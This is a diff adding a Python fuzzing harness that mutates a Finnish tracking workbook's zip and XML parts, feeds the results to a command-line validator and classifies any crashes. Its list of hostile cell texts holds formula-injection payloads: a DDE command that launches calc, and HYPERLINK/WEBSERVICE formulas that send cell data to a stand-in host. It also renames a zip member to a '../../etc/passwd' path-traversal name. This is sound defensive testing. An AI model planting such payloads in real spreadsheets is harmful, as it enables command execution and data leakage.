@@ -1,0 +1,482 @@
+"""Fuzzing harness: mutants of the bundled example through the CLI, each classified.
+
+Every mutant is one file (a mutation of one zip member, of the zip structure, or hostile content
+put into the workbook) run through the command line in a worker process, with a timeout:
+
+- ``clean``: exit 0 or 1 (a report), no traceback;
+- ``exit2``: exit 2 with exactly one stderr line, no traceback, not "odottamaton virhe";
+- ``other``: anything else - a traceback, "odottamaton virhe", an abort (exit 134), more than one
+  stderr line, a run over the time limit. The goal is none.
+
+Workers are separate processes that run many mutants each (starting Python per mutant would
+cost most of the budget); a worker that dies or overruns is killed, its mutant classified
+``other`` and a fresh worker started, so one mutant can never take the run down.
+
+Long run (results in RESULTS.md beside this file)::
+
+    python tests/fuzz/fuzz.py --seed 1 --count 3000 --budget 900 --jobs 2 --results tests/fuzz/RESULTS.md
+
+The default test suite runs a short smoke run (tests/test_fuzz_smoke.py). This file is not
+collected by pytest (its name does not start with ``test_``).
+"""
+
+from __future__ import annotations
+
+import argparse
+import io
+import json
+import os
+import random
+import re
+import select
+import shutil
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+import warnings
+import zipfile
+from collections import Counter
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable, Iterator
+
+HERE = Path(__file__).resolve().parent
+ROOT = HERE.parents[1]
+EXAMPLE = ROOT / "workbook" / "examples" / "seuranta_1-9_2021.xlsx"
+MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+TIME_LIMIT = 10.0
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+# --- the mutants -------------------------------------------------------------------------------
+
+
+def read_members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return [(info, z.read(info)) for info in z.infolist()]
+
+
+def pack(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
+    out = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compress) as z:
+        warnings.simplefilter("ignore")  # duplicate names are one of the mutations
+        for name, data in members:
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+def shared_strings_variant(data: bytes) -> bytes:
+    """The example with its text in a shared-strings part, as Excel saves it."""
+    inline = re.compile(rb'<c ([^>]*?)t="inlineStr"([^>]*)><is><t(?: [^>]*)?>(.*?)</t></is></c>', re.S)
+    strings: list[bytes] = []
+
+    def to_index(m: re.Match) -> bytes:
+        strings.append(m.group(3))
+        return b"<c " + m.group(1) + b't="s"' + m.group(2) + b"><v>%d</v></c>" % (len(strings) - 1)
+
+    members = []
+    for info, body in read_members(data):
+        if info.filename.startswith("xl/worksheets/sheet"):
+            body = inline.sub(to_index, body)
+        elif info.filename == "xl/_rels/workbook.xml.rels":
+            body = body.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.'
+                                b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+                                b"</Relationships>")
+        elif info.filename == "[Content_Types].xml":
+            body = body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
+        members.append((info.filename, body))
+    sst = (b'<sst xmlns="' + MAIN_NS + b'" count="%d" uniqueCount="%d">' % (len(strings), len(strings))
+           + b"".join(b'<si><t xml:space="preserve">' + s + b"</t></si>" for s in strings) + b"</sst>")
+    return pack(members + [("xl/sharedStrings.xml", sst)])
+
+
+def _bytes_ops(rng: random.Random, body: bytes) -> tuple[str, bytes]:
+    """A blind mutation of a member's bytes."""
+    if not body:
+        return "empty", rng.randbytes(rng.randint(1, 64))
+    op = rng.choice(["flip", "delete", "insert", "duplicate", "truncate", "random", "zero"])
+    at = rng.randrange(len(body))
+    if op == "flip":
+        data = bytearray(body)
+        for _ in range(rng.randint(1, 8)):
+            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
+        return op, bytes(data)
+    if op == "delete":
+        return op, body[:at] + body[at + rng.randint(1, 256):]
+    if op == "insert":
+        return op, body[:at] + rng.randbytes(rng.randint(1, 64)) + body[at:]
+    if op == "duplicate":
+        end = min(len(body), at + rng.randint(1, 4096))
+        return op, body[:end] + body[at:end] * rng.randint(1, 50) + body[end:]
+    if op == "truncate":
+        return op, body[:at]
+    if op == "zero":
+        return op, b"\x00" * len(body)
+    return op, rng.randbytes(len(body))
+
+
+_TAG = re.compile(rb"</?[A-Za-z][^<>]{0,200}>")
+
+
+def _xml_ops(rng: random.Random, body: bytes) -> tuple[str, bytes]:
+    """A structure-aware mutation of an XML member (tags, attributes, numbers, DTDs, encodings)."""
+    tags = list(_TAG.finditer(body[:2_000_000]))
+    op = rng.choice(["drop_tag", "dup_tag", "number", "dtd", "utf16", "comment_cells", "quotes", "lower_refs",
+                     "no_refs", "prefix", "far_cell", "style", "cdata", "huge_attr"])
+    if op in ("drop_tag", "dup_tag") and tags:
+        m = rng.choice(tags)
+        if op == "drop_tag":
+            return op, body[:m.start()] + body[m.end():]
+        return op, body[:m.end()] + m.group() * rng.randint(1, 20) + body[m.end():]
+    if op == "number":
+        numbers = list(re.finditer(rb'="(\d+)"', body[:2_000_000]))
+        if numbers:
+            m = rng.choice(numbers)
+            value = rng.choice([b"0", b"-1", b"4294967296", b"99999999999999999999", b"1e9", b"", b"x"])
+            return op, body[:m.start(1)] + value + body[m.end(1):]
+    if op == "dtd":
+        return op, b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 100 + b'">]>' + re.sub(
+            rb"^<\?xml[^>]*\?>", b"", body)
+    if op == "utf16":
+        text = re.sub(rb"^<\?xml[^>]*\?>", b"", body).decode("utf-8", "replace")
+        return op, ('<?xml version="1.0" encoding="UTF-16"?>' + rng.choice(["", '<!DOCTYPE x [<!ENTITY a "b">]>'])
+                    + text).encode("utf-16")
+    if op == "comment_cells":
+        filler = rng.choice([b"<c ", b'<c r="A1">', b"<x:c ", b"<row "]) * rng.randint(1000, 20000)
+        return op, body.replace(b"</sheetData>", b"<!-- " + filler + b" --></sheetData>", 1) if b"</sheetData>" in body \
+            else body + b"<!-- " + filler + b" -->"
+    if op == "cdata":
+        return op, body.replace(b"<v>", b"<v><![CDATA[" + b"<c " * rng.randint(10, 5000) + b"]]>", 1)
+    if op == "quotes":
+        return op, re.sub(rb'r="([A-Z]+\d+)"', rb"r='\1'", body)
+    if op == "lower_refs":
+        return op, re.sub(rb'r="([A-Z]+)(\d+)"', lambda m: b'r="' + m.group(1).lower() + m.group(2) + b'"', body)
+    if op == "no_refs":
+        return op, re.sub(rb' r="[A-Z]+\d+"', b"", body)
+    if op == "prefix":
+        return op, body.replace(b"<worksheet xmlns=", b"<x:worksheet xmlns:x=\"" + MAIN_NS + b"\" xmlns=", 1)
+    if op == "far_cell":
+        ref = rng.choice([b"XFD1048576", b"xfd1048576", b"A1048576", b"XFD1", b"XFE1", b"A1048577", b"A0"])
+        cell = rng.choice([b'<c r="%s"><v>1</v></c>', b"<c r='%s'><v>1</v></c>",
+                           b'<x:c xmlns:x="' + MAIN_NS + b'" r="%s"><x:v>1</x:v></x:c>']) % ref
+        return op, body.replace(b"</sheetData>", b"<row>" + cell + b"</row></sheetData>", 1)
+    if op == "style":
+        return op, re.sub(rb'<c r="([A-Z]+\d+)"', lambda m: m.group() + b' s="%d"' % rng.choice([999, 65536, 2**31]),
+                          body, count=rng.randint(1, 5))
+    if op == "huge_attr":
+        return op, body.replace(b"<", b'<a b="' + b"x" * rng.randint(10_000, 500_000) + b'"/><', 2)[1:] \
+            if rng.random() < 0.5 else body.replace(b"<sheetData>", b"<sheetData>" + b"<row/>" * 50_000, 1)
+    return _bytes_ops(rng, body)
+
+
+def _zip_ops(rng: random.Random, data: bytes, members: list[tuple[zipfile.ZipInfo, bytes]]) -> tuple[str, bytes]:
+    """A mutation of the package structure itself."""
+    op = rng.choice(["drop_member", "dup_name", "method", "truncate", "central_flip", "declared_size", "rename",
+                     "stored", "encrypted_flag", "empty_zip", "extra_member", "sheet_missing", "nested_dir"])
+    names = [info.filename for info, _ in members]
+    if op == "drop_member":
+        drop = rng.choice(names)
+        return op + ":" + drop, pack([(i.filename, b) for i, b in members if i.filename != drop])
+    if op == "dup_name":
+        pick = rng.choice(members)
+        return op, pack([(i.filename, b) for i, b in members] + [(pick[0].filename, rng.randbytes(100))])
+    if op in ("method", "encrypted_flag", "declared_size"):
+        buf = bytearray(data)
+        offsets = [m.start() for m in re.finditer(rb"PK\x01\x02", data)] + [m.start() for m in re.finditer(rb"PK\x03\x04", data)]
+        for at in rng.sample(offsets, k=min(len(offsets), rng.randint(1, 3))):
+            central = buf[at:at + 4] == b"PK\x01\x02"
+            if op == "method":
+                pos = at + (10 if central else 8)
+                struct.pack_into("<H", buf, pos, rng.choice([1, 6, 9, 12, 14, 93, 95, 98, 99]))
+            elif op == "encrypted_flag":
+                pos = at + (8 if central else 6)
+                struct.pack_into("<H", buf, pos, struct.unpack_from("<H", buf, pos)[0] | 1)
+            else:
+                pos = at + (24 if central else 22)
+                struct.pack_into("<I", buf, pos, rng.choice([0, 1, 0x7FFFFFFF, 0xFFFFFFFF]))
+        return op, bytes(buf)
+    if op == "truncate":
+        return op, data[:rng.randrange(len(data))]
+    if op == "central_flip":
+        buf = bytearray(data)
+        start = data.rfind(b"PK\x01\x02") if rng.random() < 0.5 else data.rfind(b"PK\x05\x06")
+        for _ in range(rng.randint(1, 6)):
+            buf[rng.randrange(max(start, 0), len(buf))] ^= 1 << rng.randrange(8)
+        return op, bytes(buf)
+    if op == "rename":
+        old = rng.choice(names)
+        new = rng.choice(["../../etc/passwd", "/abs.xml", "xl/worksheets/sheet1.xml", old.upper(), old + "\x00x", "ä/ö.xml"])
+        return op, pack([(new if i.filename == old else i.filename, b) for i, b in members])
+    if op == "stored":
+        return op, pack([(i.filename, b) for i, b in members], zipfile.ZIP_STORED)
+    if op == "empty_zip":
+        return op, pack([])
+    if op == "extra_member":
+        return op, pack([(i.filename, b) for i, b in members]
+                        + [("xl/worksheets/sheet9.xml", rng.randbytes(200)), ("docProps/custom.xml", b"<x/>" * 1000)])
+    if op == "sheet_missing":
+        return op, pack([(i.filename, b.replace(b"</sheets>", b'<sheet name="Puuttuu" sheetId="77" r:id="rId77"/></sheets>')
+                          if i.filename == "xl/workbook.xml" else b) for i, b in members])
+    return op, pack([(i.filename, b) for i, b in members] + [("xl/worksheets/", b"")])
+
+
+HOSTILE_TEXTS = [
+    "_x0001_=HYPERLINK(\"http://e.invalid/?d=\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
+    "_x0007_=WEBSERVICE(\"http://e.invalid\")", "\x1b[2J\x1b[HKAIKKI OK", "\u202eesrever", "#N/A", "TRUE", "01.05",
+    "x" * 40_000, "_x005F_x0001_", "'quoted", "\n\n\n", "Talousjohtaja\x00", "🙂" * 1000,
+]
+
+
+def _hostile(rng: random.Random, data: bytes, members: list[tuple[zipfile.ZipInfo, bytes]]) -> tuple[str, bytes]:
+    """Hostile cell content (formula-like text, escapes, controls) put into a name or role cell."""
+    text = rng.choice(HOSTILE_TEXTS)
+    escaped = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)
+    escaped = escaped.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8")
+    out = []
+    for info, body in members:
+        if info.filename == SHEET:
+            cells = list(re.finditer(rb"<is><t(?: [^>]*)?>(.*?)</t></is>", body))
+            for m in rng.sample(cells, k=min(len(cells), rng.randint(1, 5))) if cells else []:
+                body = body.replace(m.group(), b"<is><t>" + escaped + b"</t></is>", 1)
+        out.append((info.filename, body))
+    return "hostile:" + text[:12].encode("unicode_escape").decode(), pack(out)
+
+
+def mutants(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
+    """``count`` mutants (kind, bytes), the same for the same seed."""
+    rng = random.Random(seed)
+    bases = [EXAMPLE.read_bytes()]
+    bases.append(shared_strings_variant(bases[0]))
+    for _ in range(count):
+        data = rng.choice(bases)
+        members = read_members(data)
+        family = rng.choice(["member", "member", "xml", "xml", "xml", "zip", "hostile"])
+        if family == "zip":
+            op, result = _zip_ops(rng, data, members)
+            yield f"zip:{op}", result
+            continue
+        if family == "hostile":
+            op, result = _hostile(rng, data, members)
+            yield op, result
+            continue
+        xml_members = [i for i, (info, _) in enumerate(members) if info.filename.endswith((".xml", ".rels"))]
+        index = rng.choice(xml_members if family == "xml" else range(len(members)))
+        info, body = members[index]
+        op, new = (_xml_ops if family == "xml" else _bytes_ops)(rng, body)
+        rebuilt = [(i.filename, new if k == index else b) for k, (i, b) in enumerate(members)]
+        yield f"{family}:{info.filename}:{op}", pack(rebuilt)
+
+
+# --- running and classifying ---------------------------------------------------------------------
+
+
+@dataclass
+class Outcome:
+    kind: str
+    command: str
+    code: int | None
+    stderr: str
+    seconds: float
+    verdict: str = ""
+    reason: str = ""
+
+
+def classify(outcome: Outcome) -> Outcome:
+    err = outcome.stderr
+    lines = err.splitlines()
+    if outcome.code is None:
+        outcome.verdict, outcome.reason = "other", f"over {TIME_LIMIT:.0f} s"
+    elif outcome.seconds > TIME_LIMIT:
+        outcome.verdict, outcome.reason = "other", f"{outcome.seconds:.1f} s"
+    elif "Traceback" in err or "odottamaton" in err or "unexpected error" in err:
+        outcome.verdict, outcome.reason = "other", (lines[-1] if lines else "traceback")[:200]
+    elif outcome.code in (0, 1):
+        outcome.verdict = "clean"
+    elif outcome.code == 2 and len(lines) == 1:
+        outcome.verdict = "exit2"
+    else:
+        outcome.verdict, outcome.reason = "other", f"exit {outcome.code}: {err[-300:]!r}"
+    return outcome
+
+
+def _has_formula(path: Path) -> bool:
+    """Whether a written workbook holds a formula cell (the example has none of its own)."""
+    with zipfile.ZipFile(path) as z:
+        return any(re.search(rb"<(?:\w+:)?f[ >/]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+WORKER = r"""
+import io, json, os, sys, time
+os.environ.setdefault("PYTHONIOENCODING", "utf-8")
+channel = os.fdopen(os.dup(1), "w", encoding="utf-8", buffering=1)
+from seuranta_xl.cli import main, _quiet_unraisable
+sys.unraisablehook = _quiet_unraisable
+for line in sys.stdin:
+    args = json.loads(line)
+    out, err = io.StringIO(), io.StringIO()
+    sys.stdout, sys.stderr = out, err
+    start = time.monotonic()
+    try:
+        code = main(args)
+    except SystemExit as exc:
+        code = exc.code if isinstance(exc.code, int) else 2
+    except BaseException as exc:
+        import traceback
+        err.write("Traceback (worker): " + "".join(traceback.format_exception(exc)))
+        code = 99
+    sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
+    channel.write(json.dumps({"code": code, "stderr": err.getvalue(), "seconds": time.monotonic() - start}) + "\n")
+"""
+
+
+class Worker:
+    """A process running CLI commands one after another (JSON lines in and out); :func:`fuzz`
+    kills and replaces it when a command hangs or the process dies (an abort is then that
+    command's outcome)."""
+
+    def __init__(self) -> None:
+        env = dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=str(ROOT))
+        self.proc = subprocess.Popen([sys.executable, "-c", WORKER], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                                     stderr=subprocess.PIPE, env=env, cwd=str(ROOT))
+
+    def close(self) -> None:
+        if self.proc.poll() is None:
+            self.proc.kill()
+        self.proc.wait()
+
+
+def commands_for(index: int, path: Path, folder: Path) -> list[list[str]]:
+    """validate for every mutant; every fifth also through run -o (the write path)."""
+    commands = [["validate", str(path)]]
+    if index % 5 == 0:
+        commands.append(["run", str(path), "-o", str(folder / f"out{index}.xlsx"), "--force"])
+    return commands
+
+
+@dataclass
+class Run:
+    outcomes: list[Outcome] = field(default_factory=list)
+    seconds: float = 0.0
+    stopped_by_budget: bool = False
+
+    def counts(self) -> Counter:
+        return Counter(o.verdict for o in self.outcomes)
+
+
+def fuzz(seed: int, count: int, *, jobs: int = 2, budget: float = 60.0, keep: Path | None = None,
+         progress: Callable[[int, int], None] | None = None) -> Run:
+    """Run ``count`` mutants (fewer if ``budget`` seconds run out) on ``jobs`` workers."""
+    result = Run()
+    started = time.monotonic()
+    folder = Path(tempfile.mkdtemp(prefix="seuranta-fuzz-"))
+    workers = [Worker() for _ in range(jobs)]
+    pending: list[tuple[int, str, Path, list[str]]] = []
+    try:
+        for index, (kind, data) in enumerate(mutants(seed, count)):
+            path = folder / f"m{index}.xlsx"
+            path.write_bytes(data)
+            pending.extend((index, kind, path, args) for args in commands_for(index, path, folder))
+        busy: dict[int, tuple[int, str, Path, list[str], float]] = {}
+        while pending or busy:
+            if time.monotonic() - started > budget:
+                result.stopped_by_budget = True
+                break
+            for slot, worker in enumerate(workers):
+                if slot not in busy and pending:
+                    item = pending.pop(0)
+                    worker.proc.stdin.write((json.dumps(item[3]) + "\n").encode())
+                    worker.proc.stdin.flush()
+                    busy[slot] = (*item, time.monotonic())
+            streams = {workers[slot].proc.stdout: slot for slot in busy}
+            ready, _, _ = select.select(list(streams), [], [], 0.5)
+            now = time.monotonic()
+            for slot in list(busy):
+                index, kind, path, args, began = busy[slot]
+                worker = workers[slot]
+                stream = worker.proc.stdout
+                if stream in ready:
+                    line = stream.readline()
+                    if line:
+                        reply = json.loads(line)
+                        code, err, seconds = reply["code"], reply["stderr"], reply["seconds"]
+                    else:
+                        rc = worker.proc.wait()
+                        code, seconds = (128 - rc if rc < 0 else rc), now - began
+                        err = f"worker died ({rc}): {worker.proc.stderr.read().decode('utf-8', 'replace')[-400:]}"
+                        workers[slot] = Worker()
+                elif now - began > TIME_LIMIT:
+                    worker.close()
+                    workers[slot] = Worker()
+                    code, err, seconds = None, "", now - began
+                else:
+                    continue
+                del busy[slot]
+                outcome = classify(Outcome(kind, args[0], code, err, seconds))
+                if outcome.verdict == "clean" and args[0] == "run" and _has_formula(Path(args[3])):
+                    outcome.verdict, outcome.reason = "other", "a formula cell in the output"
+                result.outcomes.append(outcome)
+                if outcome.verdict == "other" and keep is not None:
+                    keep.mkdir(parents=True, exist_ok=True)
+                    shutil.copy(path, keep / f"{index}-{args[0]}.xlsx")
+                if progress is not None:
+                    progress(len(result.outcomes), len(result.outcomes) + len(pending) + len(busy))
+    finally:
+        for worker in workers:
+            worker.close()
+        shutil.rmtree(folder, ignore_errors=True)
+    result.seconds = time.monotonic() - started
+    return result
+
+
+def report(run: Run, command: str, seed: int) -> str:
+    """The results file: the command, the counts, and every ``other`` outcome."""
+    counts = run.counts()
+    families = Counter((o.kind.split(":")[0], o.verdict) for o in run.outcomes)
+    slowest = max(run.outcomes, key=lambda o: o.seconds, default=None)
+    lines = [
+        "# Fuzzing results", "",
+        f"Command: `{command}`", "",
+        f"Seed {seed}; {len(run.outcomes)} runs (validate on every mutant, run -o on every fifth) in "
+        f"{run.seconds:.0f} s" + (" (stopped by the time budget)" if run.stopped_by_budget else "") + ".", "",
+        "| verdict | runs |", "|---|---|",
+        *(f"| {v} | {counts.get(v, 0)} |" for v in ("clean", "exit2", "other")), "",
+        "| family | clean | exit2 | other |", "|---|---|---|---|",
+        *(f"| {fam} | {families.get((fam, 'clean'), 0)} | {families.get((fam, 'exit2'), 0)} | {families.get((fam, 'other'), 0)} |"
+          for fam in sorted({f for f, _ in families})), "",
+    ]
+    if slowest is not None:
+        lines += [f"Slowest run: {slowest.seconds:.2f} s ({slowest.command}, {slowest.kind}).", ""]
+    others = [o for o in run.outcomes if o.verdict == "other"]
+    if others:
+        lines += ["## Other", ""] + [f"- {o.kind} ({o.command}): {o.reason}" for o in others[:100]]
+    return "\n".join(lines) + "\n"
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--count", type=int, default=500)
+    parser.add_argument("--budget", type=float, default=600.0, help="seconds")
+    parser.add_argument("--jobs", type=int, default=2)
+    parser.add_argument("--results", type=Path, help="write the results file here (markdown)")
+    parser.add_argument("--keep", type=Path, help="copy every mutant classified 'other' here")
+    args = parser.parse_args(argv)
+
+    def progress(done: int, total: int) -> None:
+        if done % 50 == 0:
+            print(f"{done}/{total}", file=sys.stderr)
+
+    run = fuzz(args.seed, args.count, jobs=args.jobs, budget=args.budget, keep=args.keep, progress=progress)
+    command = "python tests/fuzz/fuzz.py " + " ".join(sys.argv[1:] if argv is None else argv)
+    text = report(run, command, args.seed)
+    if args.results:
+        args.results.write_text(text, encoding="utf-8")
+    print(text)
+    return 1 if run.counts().get("other") else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
